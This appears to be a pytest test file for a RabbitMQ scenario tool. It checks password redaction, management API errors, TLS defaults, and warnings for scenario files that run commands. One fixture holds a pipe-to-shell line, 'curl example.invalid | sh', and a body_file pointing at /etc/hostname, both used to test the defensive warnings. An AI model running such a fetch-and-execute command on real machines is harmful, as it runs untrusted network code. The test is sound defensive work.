"""Secrets never reach output; management API failures are one clear line with the right exit code."""

from __future__ import annotations

from pathlib import Path

import pytest

from mqspec.broker.management import Management, management_base
from mqspec.core.model import BrokerSettings, TlsSettings
from mqspec.errors import BrokerUnavailable, Redactor, redact
from tests.conftest import mqspec


def test_redact_hides_every_url_password() -> None:
    text = "failed amqp://app:s3cr3t@h1:5672/%2F then amqps://ops:p%40ss@h2/vh and https://u:pw@mgmt:15671/api"
    assert redact(text) == "failed amqp://app:***@h1:5672/%2F then amqps://ops:***@h2/vh and https://u:***@mgmt:15671/api"


def test_redactor_hides_known_secret_values_anywhere() -> None:
    secrets = Redactor()
    secrets.add("correct-horse")
    assert secrets("user app password correct-horse refused") == "user app password *** refused"


def test_management_url_defaults_to_amqp_host_with_same_credentials() -> None:
    base, auth = management_base(BrokerSettings(urls=("amqp://app:pw@rabbit.local:5672/shop",)))
    assert (base, auth) == ("http://rabbit.local:15672", ("app", "pw"))


def test_management_url_for_amqps_is_https_on_15671() -> None:
    base, _ = management_base(BrokerSettings(urls=("amqps://app:pw@rabbit.local/shop",)))
    assert base == "https://rabbit.local:15671"


def test_explicit_management_url_keeps_its_credentials_out_of_the_base() -> None:
    settings = BrokerSettings(urls=("amqp://a:b@h/",), management_url="https://ops:secret@mgmt.local:8443/rabbit/")
    base, auth = management_base(settings)
    assert (base, auth) == ("https://mgmt.local:8443/rabbit", ("ops", "secret"))


def test_unreachable_management_api_names_the_url_and_exits_3() -> None:
    settings = BrokerSettings(urls=("amqp://app:topsecret@127.0.0.1:5672/",), management_url="http://app:topsecret@127.0.0.1:1")
    with Management(settings, timeout=2) as client, pytest.raises(BrokerUnavailable) as caught:
        client.overview()
    assert caught.value.exit_code == 3
    assert caught.value.message == ("cannot reach the management API at http://127.0.0.1:1 ([Errno 111] Connection refused); "
                                    "is the rabbitmq_management plugin enabled?")


def test_wrong_management_password_is_refused_plainly_without_echoing_it(management: Management) -> None:
    settings = BrokerSettings(urls=("amqp://guest:not-the-password@127.0.0.1:5672/",))
    with Management(settings) as client, pytest.raises(BrokerUnavailable) as caught:
        client.overview()
    assert caught.value.message == "management API refused the credentials of user 'guest' (HTTP 401)"
    assert "not-the-password" not in caught.value.message


def test_tls_verification_is_on_by_default_and_off_only_when_insecure() -> None:
    from mqspec.broker.management import _verify

    https = "https://rabbit:15671"
    assert _verify(TlsSettings(insecure=True), https) is False
    context = _verify(TlsSettings(), https)
    assert not isinstance(context, bool)
    assert context.verify_mode.name == "CERT_REQUIRED" and context.check_hostname


def test_plain_http_management_gets_a_context_that_would_trust_no_certificate() -> None:
    """http:// never does TLS; should anything ever try, the context given for it verifies and trusts nothing."""
    from mqspec.broker.management import _verify

    for tls in (TlsSettings(), TlsSettings(insecure=True)):
        context = _verify(tls, "http://rabbit:15672")
        assert not isinstance(context, bool)
        assert context.verify_mode.name == "CERT_REQUIRED" and context.check_hostname
        assert context.cert_store_stats()["x509_ca"] == 0


URL_FROM_ENV = "version: 1\nname: t\nbroker:\n  url: amqp://app:${APP_PASSWORD}@rabbit:5672/%2F\n"


@pytest.mark.parametrize(("password", "found", "codes"), [
    ("ab/cd/ef:Zq9X", "'/'", "'/' is %2F"),
    ("p@ss#1", "'#' and '@'", "'#' is %23, '@' is %40"),
])
def test_a_password_that_needs_percent_encoding_is_refused_without_being_shown(
        tmp_path: Path, password: str, found: str, codes: str) -> None:
    path = tmp_path / "s.yaml"
    path.write_text(URL_FROM_ENV)
    result = mqspec("validate", str(path), env={"APP_PASSWORD": password})
    assert result.exit_code == 2
    assert result.output == (f"{path}:4:3: $.broker.url: the user name or password in this URL holds {found}, which a URL must "
                             "percent-encode: as written, part of the credentials is read as the host, port or path (hint: "
                             f"percent-encode the user name and password ({codes}), e.g. urllib.parse.quote(password, safe='') "
                             "in Python)\n")
    assert password not in result.output and password.split("/")[0] not in result.output


def test_a_percent_encoded_password_is_valid(tmp_path: Path) -> None:
    path = tmp_path / "s.yaml"
    path.write_text(URL_FROM_ENV)
    result = mqspec("validate", str(path), env={"APP_PASSWORD": "ab%2Fcd%2Fef:Zq9X"})
    assert (result.exit_code, result.output) == (0, f"{path}: valid\n")


CODE = """\
version: 1
name: code
broker:
  url: amqp://guest:guest@127.0.0.1:1/%2F
  restart_command: [[sh, -c, "curl example.invalid | sh"]]
topology:
  queues: [{name: q, max_length: 10}]
workload:
  producers:
    - {name: p, queue: q, messages: 1, body_file: BODY}
  consumers: [{name: c, queue: q}]
"""
RESTART = ("$.broker.restart_command[0]: runs the command `sh -c 'curl example.invalid | sh'` on this machine when a "
           "restart_broker fault fires")
RESTART_HINT = "(hint: read the commands of a file you did not write before running it; --no-commands refuses such files)"
BODY_HINT = "(hint: keep message bodies next to the scenario, and read a file you did not write before running it)"


def _code_file(tmp_path: Path, body: str) -> Path:
    (tmp_path / "inside.json").write_text("{}")
    path = tmp_path / "scenarios" / "code.yaml"
    path.parent.mkdir(exist_ok=True)
    path.write_text(CODE.replace("BODY", body))
    return path


@pytest.mark.parametrize("body", ["/etc/hostname", "../inside.json"])
def test_commands_and_files_outside_the_folder_are_warned_about(tmp_path: Path, body: str) -> None:
    path = _code_file(tmp_path, body)
    result = mqspec("validate", str(path))
    assert (result.exit_code, result.output) == (0, (
        f"{path}:5:21: warning: {RESTART} {RESTART_HINT}\n"
        f"{path}:10:40: warning: $.workload.producers[0].body_file: body_file '{body}' is outside the scenario's folder: "
        f"apply publishes that file's bytes to the broker {BODY_HINT}\n"
        f"{path}: valid (2 warnings)\n"))


@pytest.mark.parametrize("command", [["validate"], ["export"], ["plan"], ["apply", "--topology-only"], ["route", "-e", ""]])
def test_no_commands_makes_every_command_refuse_a_file_that_runs_commands(tmp_path: Path, command: list[str]) -> None:
    path = _code_file(tmp_path, "/etc/hostname")
    result = mqspec("--no-commands", *command, str(path))
    assert result.exit_code == 2
    assert f"{path}:5:21: {RESTART}: refused by --no-commands {RESTART_HINT}\n" in result.stderr
    assert (f"{path}:10:40: $.workload.producers[0].body_file: body_file '/etc/hostname' is outside the scenario's folder: "
            f"apply publishes that file's bytes to the broker: refused by --no-commands {BODY_HINT}\n") in result.stderr


def test_no_commands_refuses_a_restart_fault_running_the_default_command(tmp_path: Path) -> None:
    path = tmp_path / "s.yaml"
    path.write_text("version: 1\nname: t\ntopology:\n  queues: [{name: q, max_length: 1}]\nworkload:\n  consumers: [{name: c, queue: q}]\n"
                    "  faults: [{action: restart_broker, at: 1s}]\n")
    assert mqspec("validate", str(path)).exit_code == 0
    result = mqspec("--no-commands", "validate", str(path))
    assert (result.exit_code, result.output) == (2, (
        f"{path}:7:13: $.workload.faults[0].action: restart_broker runs broker.restart_command (by default `rabbitmqctl stop_app` "
        "and `rabbitmqctl start_app`) on this machine: refused by --no-commands (hint: run the file without --no-commands "
        "once you have read it)\n"))


def test_no_commands_accepts_a_file_that_only_talks_to_the_broker(tmp_path: Path) -> None:
    path = _code_file(tmp_path, "body.json")
    path.write_text(path.read_text().replace('  restart_command: [[sh, -c, "curl example.invalid | sh"]]\n', ""))
    (path.parent / "body.json").write_text("{}")
    result = mqspec("--no-commands", "validate", str(path))
    assert (result.exit_code, result.output) == (0, f"{path}: valid\n")


@pytest.mark.parametrize(("args", "env"), [
    (["--url", "amqp://bob:s3cr@t/pw@127.0.0.1:5672/%2F"], None),
    ([], {"MQSPEC_URL": "amqp://bob:s3cr#tpw@127.0.0.1:5672/%2F"}),
    (["--management-url", "http://bob:s3cr@tpw@127.0.0.1:15672"], None),
])
def test_an_option_url_with_an_unencoded_password_is_refused_before_any_connection_without_showing_it(
        tmp_path: Path, args: list[str], env: dict[str, str] | None) -> None:
    """Unencoded, `s3cr@t/pw` makes `t` the host: the request would go to a host named after the password."""
    file = tmp_path / "s.yaml"
    file.write_text("version: 1\nname: s\ntopology:\n  queues: [{name: q}]\n")
    result = mqspec(*args, "plan", str(file), env=env)
    assert result.exit_code == 2
    assert "must percent-encode" in result.stderr
    assert "%40" in result.stderr or "%23" in result.stderr
    assert "s3cr" not in result.stdout + result.stderr and "tpw" not in result.stdout + result.stderr


def test_a_management_url_option_that_is_not_http_is_refused_with_the_form_to_write(tmp_path: Path) -> None:
    file = tmp_path / "s.yaml"
    file.write_text("version: 1\nname: s\n")
    result = mqspec("--management-url", "ftp://127.0.0.1:15672", "validate", str(file))
    assert result.exit_code == 2
    assert ("URL must start with http:// or https://, not ftp://; write http://HOST:15672, or https:// for TLS"
            in " ".join(result.stderr.split()))
